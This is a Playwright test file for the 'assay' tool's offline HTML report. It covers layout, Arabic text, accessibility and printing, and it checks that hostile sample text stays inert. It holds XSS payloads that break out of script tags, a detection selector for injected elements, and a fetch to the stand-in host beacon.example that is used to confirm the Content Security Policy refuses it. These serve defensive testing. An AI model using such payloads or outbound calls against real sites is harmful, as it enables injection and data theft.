"""The report as a person opens it: one file from disk, no server, no network."""

import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from tests.required import report_page
from tests.web.browser import Visitor
from tests.web.conftest import METRICS
from tests.web.corpus import hostile_samples, payloads
from tests.web.samples import HOSTILE, SAMPLES

import assay
from assay.cli import app
from assay.report import About, open_writers
from assay.report.html_samples import MAX_TEXT, MOST

PAYLOADS = [
    *payloads(),
    '"}</script><script>alert(1)</script>{"',
    '\\"}]}</script ><script>alert(1)</script>',
    "<!--REPORT-DATA--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
]
"""The corpus, and texts that would end the data of a report."""
ADDRESSES = (
    "/",
    "/?tab=samples",
    "/?tab=samples&metric=text.safety",
    "/?tab=groups",
    "/failures",
    "/metrics",
    "/metrics/text.hallucination",
    "/nowhere",
)
ACTIVE = "main :is(img, iframe, script, object, embed, link, style, base, [onerror], [href^=java])"
"""What only hostile text would have put there."""
UNFOLD = "document.querySelectorAll('main details').forEach((part) => { part.open = true; })"
VIOLATIONS = "axe.run({resultTypes: ['violations']}).then(found => found.violations)"
SECRET = "fetch('https://beacon.example/').then(() => 'sent', () => 'refused')"
SCRIPT = """() => {
  const script = document.createElement("script");
  script.text = "alert()";
  document.body.append(script);
}"""
"""What text that became markup could try."""


class Reader(Visitor):
    """Somebody who opens a report from disk."""

    def open(self, address):
        """Go to an address behind the `#`."""
        self.page.goto("about:blank")
        self.page.goto(f"{self._site}#{address}")
        return self.settle()


@pytest.fixture(scope="session")
def report(tmp_path_factory):
    """The address of a report that `assay run` wrote."""
    report_page()
    folder = tmp_path_factory.mktemp("report")
    data, path = folder / "monday.jsonl", folder / "monday.html"
    lines = [json.dumps(sample, ensure_ascii=False) for sample in SAMPLES["monday"]]
    data.write_text("\n".join(lines), encoding="utf-8")
    command = ["run", str(data), "-m", METRICS, "--embedder", "none", "--out", str(path), "-q"]
    result = CliRunner().invoke(app, command)
    assert result.exit_code == 0, result.output
    return path.as_uri()


@pytest.fixture
def read(browser):
    """Opens a report; at the end nothing may have gone wrong unseen."""
    readers = []

    def opened(address, at="", *, width=1280, theme="light"):
        reader = Reader(browser, address, width, theme)
        reader.dialogs = []
        reader.page.on("dialog", lambda dialog: reader.dialogs.append(dialog.message))
        readers.append(reader)
        return reader.open(at)

    yield opened
    for reader in readers:
        assert reader.dialogs == []
        reader.close()


def test_the_first_page_says_what_the_run_came_to(read, report):
    page = read(report).page
    page.get_by_role("heading", name="monday", level=1).wait_for()
    text = page.inner_text("main")
    assert "monday.jsonl" in text
    assert "14 of 14 judged; 95% interval" in text
    assert page.get_by_role("row").count() > 10
    page.locator("svg.histogram").first.wait_for()
    for absent in ("Compare", "Download", "Delete"):
        assert page.get_by_text(absent, exact=True).count() == 0, absent


def test_from_a_metric_to_the_evidence_of_its_worst_sample(read, report):
    reader = read(report)
    page = reader.page
    row = page.get_by_role("row").filter(has_text="text.safety")
    row.get_by_role("link", name="Worst first").click()
    page.get_by_role("link", name="hours-01").click()
    page.get_by_role("heading", name="hours-01").wait_for()
    assert page.locator(".sample-text.main mark").all_inner_texts() == ["john@example.com"]
    address = page.evaluate("window.location.hash.slice(1)")
    assert read(report, address).page.locator(".sample-text.main mark").count() == 1


def test_a_report_speaks_arabic_without_a_network(read, report):
    page = read(report, "/?lang=ar").page
    page.get_by_role("link", name="التقرير").wait_for()
    assert page.evaluate("document.documentElement.dir") == "rtl"
    page.get_by_text("الخطوة التالية").wait_for()
    page.get_by_role("button", name="English").click()
    page.get_by_text("Next step").wait_for()
    assert page.evaluate("document.documentElement.dir") == "ltr"


def test_arabic_runs_from_right_to_left_and_its_marks_stand_right(read, report):
    page = read(report, "/?tab=samples&metric=text.safety").page
    page.get_by_role("link", name="<b>arabic</b>").click()
    assert page.locator(".sample-text.main mark").first.inner_text() == "٥٥٥-١٢٣-٤٥٦٧"
    direction = "element => getComputedStyle(element).direction"
    assert page.locator(".sample-text.main .data-text").evaluate(direction) == "rtl"


def test_samples_are_found_by_words_and_by_group(read, report):
    page = read(report, "/?tab=groups").page
    page.get_by_role("link", name="hours", exact=True).click()
    page.wait_for_url("**tag=hours**")
    assert page.locator("tbody tr:visible").count() == 12
    page.get_by_role("searchbox", name="Find").fill("hours-03")
    page.wait_for_url("**text=hours-03**")
    page.get_by_role("link", name="hours-03").wait_for()
    assert page.locator("tbody tr:visible").count() == 1


def test_failures_and_the_rules_of_the_metrics_are_inside(read, report):
    page = read(report, "/failures").page
    page.get_by_role("heading", name="Failures").wait_for()
    assert page.get_by_role("combobox", name="Run").count() == 0
    page.get_by_role("link", name="Metrics").click()
    # the page before has such links too
    page.get_by_role("heading", name="Metrics", exact=True).wait_for()
    page.get_by_role("link", name="Hallucination", exact=True).click()
    page.get_by_role("heading", name="Hallucination").wait_for()
    assert "Blind spots" in page.inner_text("main")


def test_what_a_metric_lacked_is_said(read, report):
    page = read(report).page
    row = page.get_by_role("row").filter(has_text="chat.task_completion")
    row.get_by_text("13 N/A").hover()
    assert "task_completed" in page.get_by_role("tooltip").inner_text()


def test_tables_are_saved_from_disk(read, report, tmp_path):
    page = read(report, "/?tab=samples").page
    for kind in ("CSV", "JSON"):
        with page.expect_download() as download:
            page.get_by_role("button", name=f"Save Samples of monday as {kind}").click()
        download.value.save_as(tmp_path / f"table.{kind.lower()}")
    assert len(json.loads(Path(tmp_path, "table.json").read_text(encoding="utf-8"))) == len(
        SAMPLES["monday"]
    )
    assert "hours-01" in Path(tmp_path, "table.csv").read_text(encoding="utf-8")


def test_the_colours_are_kept(read, report):
    page = read(report).page
    page.get_by_role("button", name="Dark").click()
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"


@pytest.mark.parametrize(
    ("theme", "width", "language"),
    [("light", 1280, "en"), ("dark", 390, "en"), ("dark", 1280, "ar"), ("light", 390, "ar")],
)
def test_every_page_fits_is_accessible_and_shows_data_as_text(
    read, report, axe, theme, width, language
):
    reader = read(report, f"/?tab=samples&lang={language}", width=width, theme=theme)
    page = reader.page
    page.evaluate(axe)
    links = page.locator("tbody a[href^='#/tests/']:visible")
    samples = links.evaluate_all("links => links.map(link => link.hash.slice(1))")
    assert len(samples) == len(SAMPLES["monday"])
    for address in (*ADDRESSES, *samples):
        reader.turn(address)
        assert page.locator("h1").count() == 1, address
        assert reader.fits(), address
        assert page.locator(ACTIVE).count() == 0, address
        found = page.evaluate(VIOLATIONS)
        serious = [entry for entry in found if entry["impact"] in ("serious", "critical")]
        assert [(entry["id"], entry["nodes"][0]["html"]) for entry in serious] == [], address


def test_hostile_text_is_shown_as_it_is(read, report):
    page = read(report, "/?tab=samples").page
    page.get_by_role("link", name="hostile").click()
    page.get_by_role("heading", name="hostile").wait_for()
    assert HOSTILE.split()[0] in page.inner_text(".sample-text.main")


def test_nothing_can_be_sent_from_a_report(read, report):
    reader = read(report)
    assert reader.page.evaluate(SECRET) == "refused"
    reader.page.evaluate(SCRIPT)
    assert reader.page.evaluate("window.__ran") == 0
    assert reader.complaints
    assert all("Content Security Policy" in words for words in reader.complaints)
    reader.complaints.clear()


def test_a_large_run_says_how_much_of_it_the_report_holds(read, tmp_path):
    count = MOST + 20
    texts = ["Damn.", "It is sunny.", "x" * (MAX_TEXT + 1)]
    samples = [{"id": f"s{at}", "response": texts[at % 3]} for at in range(count)]
    assay.evaluate(samples, ["text.safety"]).save(tmp_path / "large.html")
    reader = read((tmp_path / "large.html").as_uri(), "/?tab=samples")
    said = f"the {MOST} samples with the lowest scores, of {count}"
    assert said in reader.page.inner_text(".report-note")
    reader.page.get_by_role("tab", name=f"Samples ({count})").wait_for()
    reader.page.get_by_role("link", name="s2", exact=True)
    reader.turn("/tests/3")
    assert "are truncated" in reader.page.inner_text("main")


@pytest.fixture(scope="session")
def hostile(tmp_path_factory):
    """The address of a report with every payload as a sample, and with all of them in few."""
    report_page()
    each = [
        {"id": text, "query": text, "response": text, "tags": [text], "language": text}
        for text in PAYLOADS
    ]
    path = tmp_path_factory.mktemp("hostile") / "hostile.html"
    found = assay.evaluate(
        [*hostile_samples(), *each], ["text.safety", "text.overall", "chat.output_validity"]
    )
    about = About(HOSTILE, HOSTILE, tags=tuple(PAYLOADS[:20]), settings={HOSTILE: HOSTILE})
    with open_writers([str(path)], about) as (writer,):
        for sample, scores in zip(found.samples, found.scores, strict=True):
            writer.write(sample, scores)
        writer.close(found.summary)
    return path.as_uri()


def test_no_text_of_the_corpus_is_more_than_text(read, hostile):
    reader = read(hostile)
    page = reader.page
    parts = range(0, len(PAYLOADS), 50)
    bundles = range(1, len(hostile_samples()) + 1)
    for address in (
        *(f"/?tab=samples&offset={offset}" for offset in parts),
        *(f"/failures?offset={offset}" for offset in parts),
        *("/?tab=groups", "/?tab=about", "/"),
        *(f"/tests/{bundle}" for bundle in bundles),
    ):
        reader.turn(address)
        page.evaluate(UNFOLD)
        assert page.inner_text("main"), address
        assert page.locator(ACTIVE).count() == 0, address
    assert "beacon.example" in page.inner_text("main")


def test_the_first_screen_says_what_the_report_is_and_what_to_do(read, report):
    page = read(report, "/").page
    assert page.evaluate("scrollY") == 0, "it opens at its beginning"
    facts = page.get_by_role("region", name="In short")
    for name in ("Date", "Command", "Version", "Profile", "Worst group", "Next step"):
        facts.get_by_role("term").filter(has_text=name).wait_for()
    assert "assay run monday.jsonl" in facts.inner_text()
    assert "to look at." in facts.inner_text()
    assert facts.locator("mark").count() > 0, "the evidence of the worst samples is marked"
    worst = facts.locator("li a").first.inner_text()
    facts.get_by_role("link", name=worst, exact=True).click()
    page.get_by_role("heading", name=worst, exact=True).wait_for()


def test_the_first_screen_speaks_arabic(read, report):
    page = read(report, "/?lang=ar").page
    facts = page.get_by_role("region", name="باختصار")
    step = facts.locator("div").filter(has=page.get_by_text("الخطوة التالية", exact=True))
    step.get_by_text("اقرأ العيّنات الفاشلة بدءًا بأسوئها").wait_for()
    assert step.locator("[lang=en]").count() == 0


UNFOLDED = """() => {
  const folded = [...document.querySelectorAll('main details')];
  return folded.length > 0 && folded.every(one => one.lastElementChild.checkVisibility());
}"""
"""Whether there are folded parts, and all of them are shown."""


@pytest.mark.parametrize("tab", ["", "?tab=samples"])
def test_on_paper_it_is_light_and_whole_and_has_no_menus(read, report, tab):
    page = read(report, f"/{tab}", theme="dark").page
    page.emulate_media(media="print")
    page.locator(".printed").first.wait_for()
    for name in ("Metrics", "Samples"):
        page.get_by_role("table", name=name, exact=False).first.wait_for()
    page.get_by_role("heading", name="Languages").wait_for()
    page.get_by_text("Next step", exact=True).wait_for()
    assert not page.get_by_role("navigation").is_visible()
    assert page.get_by_role("tab").count() == 0
    ink, ground = (
        page.evaluate(f"getComputedStyle(document.body).{part}")
        for part in ("color", "backgroundColor")
    )
    assert sum(map(int, re.findall(r"\d+", ink)[:3])) < 200, "dark text"
    assert ground in ("rgba(0, 0, 0, 0)", "rgb(255, 255, 255)") or "247" in ground
    assert page.evaluate(UNFOLDED) is True
    width = page.evaluate("document.documentElement.scrollWidth - innerWidth")
    assert width <= 0, "nothing is cut at the edge of the paper"
